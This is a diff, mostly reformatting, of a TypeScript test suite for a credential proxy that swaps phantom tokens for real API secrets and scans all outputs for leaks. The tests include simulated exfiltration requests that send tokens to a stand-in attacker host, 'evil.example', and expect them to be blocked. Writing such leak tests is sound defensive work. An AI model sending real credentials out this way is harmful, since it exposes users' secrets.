@@ -49,7 +49,13 @@ async function startOldTlsUpstream(): Promise<{ port: number; seen: string[]; cl
   const dir = path.join(path.dirname(UPSTREAM_CA));
   const seen: string[] = [];
   const server = https.createServer(
-    { key: fs.readFileSync(path.join(dir, 'upstream-key.pem')), cert: fs.readFileSync(path.join(dir, 'upstream-cert.pem')), minVersion: 'TLSv1', maxVersion: 'TLSv1.1', ciphers: 'DEFAULT:@SECLEVEL=0' },
+    {
+      key: fs.readFileSync(path.join(dir, 'upstream-key.pem')),
+      cert: fs.readFileSync(path.join(dir, 'upstream-cert.pem')),
+      minVersion: 'TLSv1',
+      maxVersion: 'TLSv1.1',
+      ciphers: 'DEFAULT:@SECLEVEL=0',
+    },
     (req, res) => {
       seen.push(`${req.url} ${JSON.stringify(req.headers)}`);
       res.end('{}');
@@ -80,7 +86,10 @@ const cliSaw: { args: string[]; out: ProcResult; tokenAllowed: boolean }[] = [];
 /** Real secrets by name (filled in as the scenario creates them). */
 const secrets: Record<string, string> = {};
 
-async function rpc<M extends Parameters<DaemonClient['call']>[0]>(method: M, params?: Parameters<DaemonClient['call']>[1] & object): Promise<Awaited<ReturnType<DaemonClient['call']>>> {
+async function rpc<M extends Parameters<DaemonClient['call']>[0]>(
+  method: M,
+  params?: Parameters<DaemonClient['call']>[1] & object,
+): Promise<Awaited<ReturnType<DaemonClient['call']>>> {
   try {
     const r = await d.client.call(method, params as never);
     (method === 'proxy.env' ? rpcTokenAllowed : rpcSaw).push({ method, r });
@@ -105,7 +114,10 @@ async function agent(url: string, init: { method?: string; headers?: Record<stri
   return { status: res.statusCode, headers: res.headers, text, bodyError };
 }
 
-async function cli(args: string[], opts: { input?: string; tokenAllowed?: boolean; timeoutMs?: number; onStdout?: (s: string) => void; signal?: AbortSignal } = {}) {
+async function cli(
+  args: string[],
+  opts: { input?: string; tokenAllowed?: boolean; timeoutMs?: number; onStdout?: (s: string) => void; signal?: AbortSignal } = {},
+) {
   const out = await runCli(args, d.socket, { input: opts.input, timeoutMs: opts.timeoutMs, onStdout: opts.onStdout, signal: opts.signal });
   cliSaw.push({ args, out, tokenAllowed: opts.tokenAllowed ?? false });
   return out;
@@ -175,7 +187,12 @@ describe('the full scenario, then a byte scan for every secret', () => {
       header: 'authorization',
       format: 'Bearer {}',
       token_url: TOKEN_URL,
-      secret: JSON.stringify({ access_token: acct.access_token, refresh_token: acct.refresh_token, id_token: acct.id_token, expires_at: Date.now() + 3600_000 }),
+      secret: JSON.stringify({
+        access_token: acct.access_token,
+        refresh_token: acct.refresh_token,
+        id_token: acct.id_token,
+        expires_at: Date.now() + 3600_000,
+      }),
     })) as { phantom: string; phantom_refresh: string };
     // The master key and the proxy token.
     masterKey = fs.readFileSync(path.join(d.home, 'master.key'));
@@ -185,20 +202,38 @@ describe('the full scenario, then a byte scan for every secret', () => {
     // RPC errors carrying a secret in their params must not echo it.
     await expect(rpc('cred.add', { name: 'ant', hosts: [ANT], secret: secrets.ant })).rejects.toThrow();
     await expect(rpc('cred.add', { name: 'bad name!', hosts: [ANT], secret: secrets.oai })).rejects.toThrow();
-    await expect(rpc('cred.add', { name: 'oauthbad', kind: 'oauth', hosts: [OAI], token_url: TOKEN_URL, secret: `{"access_token":"${secrets.oai}"}` })).rejects.toThrow();
+    await expect(
+      rpc('cred.add', { name: 'oauthbad', kind: 'oauth', hosts: [OAI], token_url: TOKEN_URL, secret: `{"access_token":"${secrets.oai}"}` }),
+    ).rejects.toThrow();
 
     // Traffic.
-    expect((await agent(`https://${ANT}/v1/messages`, { method: 'POST', headers: { 'x-api-key': ant.phantom, 'content-type': 'application/json' }, body: `{"note":"${ant.phantom}"}` })).status).toBe(200);
+    expect(
+      (
+        await agent(`https://${ANT}/v1/messages`, {
+          method: 'POST',
+          headers: { 'x-api-key': ant.phantom, 'content-type': 'application/json' },
+          body: `{"note":"${ant.phantom}"}`,
+        })
+      ).status,
+    ).toBe(200);
     expect((await agent(`https://${OAI}/v1/chat?key=${oai.phantom}`, { headers: { authorization: `Bearer ${oai.phantom}` } })).status).toBe(200);
     expect((await agent(`https://${ANT}/sse?n=3&gap=10`, { headers: { 'x-api-key': ant.phantom } })).status).toBe(200);
-    upstream.keyStatus.set(secrets.pa, { status: 429, headers: { 'retry-after': '120' }, body: JSON.stringify({ type: 'error', error: { type: 'rate_limit_error', message: 'limit' } }) });
+    upstream.keyStatus.set(secrets.pa, {
+      status: 429,
+      headers: { 'retry-after': '120' },
+      body: JSON.stringify({ type: 'error', error: { type: 'rate_limit_error', message: 'limit' } }),
+    });
     expect((await agent(`https://${ANT}/v1/pooled`, { headers: { 'x-api-key': pool.phantom } })).status).toBe(200);
     upstream.keyStatus.delete(secrets.pa);
     expect(upstream.seen.some((s) => s.headers['x-api-key'] === secrets.pb)).toBe(true);
     await rpc('pool.rotate', { name: 'pool' });
     // OAuth: an API call, then a refresh through the proxy (the agent only ever holds phantoms), then another call.
     expect((await agent(`https://${OAI}/v1/oauth-call-1`, { headers: { authorization: `Bearer ${codex.phantom}` } })).status).toBe(200);
-    refresh = await agent(TOKEN_URL, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ grant_type: 'refresh_token', refresh_token: codex.phantom_refresh, client_id: 'app_test' }) });
+    refresh = await agent(TOKEN_URL, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ grant_type: 'refresh_token', refresh_token: codex.phantom_refresh, client_id: 'app_test' }),
+    });
     expect(refresh.status).toBe(200);
     expect(oauth.seen.at(-1)?.refresh_token).toBe(secrets.oauth_refresh); // the real one reached the token endpoint
     const rotated = oauth.accounts.get('acct1')!;
@@ -209,7 +244,14 @@ describe('the full scenario, then a byte scan for every secret', () => {
     expect((await agent(`https://${OAI}/v1/oauth-call-2`, { headers: { authorization: `Bearer ${codex.phantom}` } })).status).toBe(200);
     expect(upstream.seen.find((s) => s.path === '/v1/oauth-call-2')?.headers.authorization).toBe(`Bearer ${secrets.oauth_access2}`);
     // WebSocket: a phantom inside a client message.
-    const ws = await openWebSocket({ proxyPort: d.proxyPort, token: proxyToken, caPath: d.caPath, host: OAI, path: '/v1/responses', headers: { authorization: `Bearer ${oai.phantom}` } });
+    const ws = await openWebSocket({
+      proxyPort: d.proxyPort,
+      token: proxyToken,
+      caPath: d.caPath,
+      host: OAI,
+      path: '/v1/responses',
+      headers: { authorization: `Bearer ${oai.phantom}` },
+    });
     expect('ws' in ws).toBe(true);
     if ('ws' in ws) {
       const got = new Promise<string>((r) => ws.ws.once('message', (m) => r(m.toString())));
@@ -223,7 +265,15 @@ describe('the full scenario, then a byte scan for every secret', () => {
     expect((await agent('https://other.example/denied', { headers: { 'x-api-key': ant.phantom } })).status).toBe(403);
     expect((await agent('https://evil.example/leak-h', { headers: { 'x-api-key': ant.phantom } })).status).toBe(403);
     expect((await agent(`https://evil.example/leak-q?k=${codex.phantom}`)).status).toBe(403);
-    expect((await agent('https://evil.example/leak-b', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ rt: codex.phantom_refresh, k: pool.phantom }) })).status).toBe(403);
+    expect(
+      (
+        await agent('https://evil.example/leak-b', {
+          method: 'POST',
+          headers: { 'content-type': 'application/json' },
+          body: JSON.stringify({ rt: codex.phantom_refresh, k: pool.phantom }),
+        })
+      ).status,
+    ).toBe(403);
     expect((await agent(`https://evil.example/leak-p/${oai.phantom}/x`)).status).toBe(403);
     const leakRows = await waitFor(async () => {
       const rows = (await d.client.call('audit.tail', { n: 500 })).rows.filter((r) => r.event === 'phantom_leak' && r.host === 'evil.example');
@@ -251,12 +301,22 @@ describe('the full scenario, then a byte scan for every secret', () => {
       await noToken.destroy().catch(() => {});
     }
     agentSaw.push((await rawProxy(d.proxyPort, `GET http://${ANT}/v1/plain-no-token HTTP/1.1\r\nHost: ${ANT}\r\nx-api-key: ${ant.phantom}\r\n\r\n`)).text);
-
   });
 
   test('scenario, clients: every read-only RPC method, a few writes, sluicectl cred add/update (secret on stdin) and watch', async () => {
     // Every read-only RPC method, plus a few writes.
-    for (const m of ['daemon.status', 'proxy.env', 'cred.list', 'pool.list', 'rule.list', 'approval.list', 'limits.get', 'stats.snapshot', 'audit.verify'] as const) await rpc(m, {});
+    for (const m of [
+      'daemon.status',
+      'proxy.env',
+      'cred.list',
+      'pool.list',
+      'rule.list',
+      'approval.list',
+      'limits.get',
+      'stats.snapshot',
+      'audit.verify',
+    ] as const)
+      await rpc(m, {});
     await rpc('pool.status', {});
     await rpc('audit.tail', { n: 10_000 });
     await rpc('cred.update', { name: 'ant', max_concurrent: 7 });
@@ -282,7 +342,20 @@ describe('the full scenario, then a byte scan for every secret', () => {
 
   // Read-only commands, four at a time and split in two tests (29 node starts one after another took over
   // 30 s on a busy machine; their order does not matter to the scan).
-  const READ_ONLY = [['status'], ['cred', 'list'], ['pool', 'list'], ['pool', 'status'], ['rule', 'list'], ['approval', 'list'], ['limits', 'get'], ['stats'], ['audit', 'tail', '-n', '1000'], ['audit', 'verify'], ['rpc', 'cred.list'], ['doctor']];
+  const READ_ONLY = [
+    ['status'],
+    ['cred', 'list'],
+    ['pool', 'list'],
+    ['pool', 'status'],
+    ['rule', 'list'],
+    ['approval', 'list'],
+    ['limits', 'get'],
+    ['stats'],
+    ['audit', 'tail', '-n', '1000'],
+    ['audit', 'verify'],
+    ['rpc', 'cred.list'],
+    ['doctor'],
+  ];
   test('scenario, clients: sluicectl read-only commands, human output', async () => {
     await mapLimit(READ_ONLY, 4, (args) => cli(args));
   });
@@ -299,7 +372,11 @@ describe('the full scenario, then a byte scan for every secret', () => {
       what: 'the audit row of /v1/while-watching',
     });
     // The test is sound: every needle is real and reached the right upstream.
-    for (const k of ['ant', 'oai', 'pa', 'pb']) expect(upstream.seen.some((s) => JSON.stringify(s).includes(secrets[k]!)), k).toBe(true);
+    for (const k of ['ant', 'oai', 'pa', 'pb'])
+      expect(
+        upstream.seen.some((s) => JSON.stringify(s).includes(secrets[k]!)),
+        k,
+      ).toBe(true);
     expect(upstream.seen.some((s) => s.headers.authorization === `Bearer ${secrets.oauth_access}`)).toBe(true);
     expect(agentSaw.length).toBeGreaterThan(15);
     expect(cliSaw.length).toBeGreaterThan(25);
@@ -327,13 +404,16 @@ describe('the full scenario, then a byte scan for every secret', () => {
     const hits = [
       ...scanFor(needles, { ...otherFiles, 'proxy-token': files['proxy-token'] ?? Buffer.alloc(0) }),
       ...scanFor(tokenNeedle, otherFiles),
-      ...scanFor({ ...needles, ...tokenNeedle }, {
-        'daemon stderr': d.logs(),
-        'RPC results and errors': JSON.stringify(rpcSaw),
-        events: JSON.stringify(events),
-        'responses to the agent': agentSaw.join('\n'),
-        ...Object.fromEntries(cliSaw.filter((c) => !c.tokenAllowed).map((c) => [`sluicectl ${c.args.join(' ')}`, cliText(c)])),
-      }),
+      ...scanFor(
+        { ...needles, ...tokenNeedle },
+        {
+          'daemon stderr': d.logs(),
+          'RPC results and errors': JSON.stringify(rpcSaw),
+          events: JSON.stringify(events),
+          'responses to the agent': agentSaw.join('\n'),
+          ...Object.fromEntries(cliSaw.filter((c) => !c.tokenAllowed).map((c) => [`sluicectl ${c.args.join(' ')}`, cliText(c)])),
+        },
+      ),
       ...scanFor(needles, {
         'proxy.env result': JSON.stringify(rpcTokenAllowed),
         ...Object.fromEntries(cliSaw.filter((c) => c.tokenAllowed).map((c) => [`sluicectl ${c.args.join(' ')}`, cliText(c)])),
@@ -400,10 +480,16 @@ describe('upstream TLS cannot be skipped or downgraded', () => {
   test('a phantom sent over plain http:// to its bound host never puts the real secret on the wire in cleartext', async () => {
     const auth = basicAuth(tokenOf(d));
     const ant = (await d.client.call('cred.list')).credentials.find((c) => c.name === 'ant')!;
-    const r = await rawProxy(d.proxyPort, `GET http://${ANT}/v1/cleartext HTTP/1.1\r\nHost: ${ANT}\r\nProxy-Authorization: ${auth}\r\nx-api-key: ${ant.phantom}\r\n\r\n`);
+    const r = await rawProxy(
+      d.proxyPort,
+      `GET http://${ANT}/v1/cleartext HTTP/1.1\r\nHost: ${ANT}\r\nProxy-Authorization: ${auth}\r\nx-api-key: ${ant.phantom}\r\n\r\n`,
+    );
     agentSaw.push(r.text);
     const leaked = plain.seen.filter((s) => JSON.stringify(s).includes(secrets.ant!));
-    expect(leaked.map((s) => `${s.url} x-api-key=${String(s.headers['x-api-key']).slice(0, 16)}…`), `answered ${r.status}`).toEqual([]);
+    expect(
+      leaked.map((s) => `${s.url} x-api-key=${String(s.headers['x-api-key']).slice(0, 16)}…`),
+      `answered ${r.status}`,
+    ).toEqual([]);
   });
 });
 
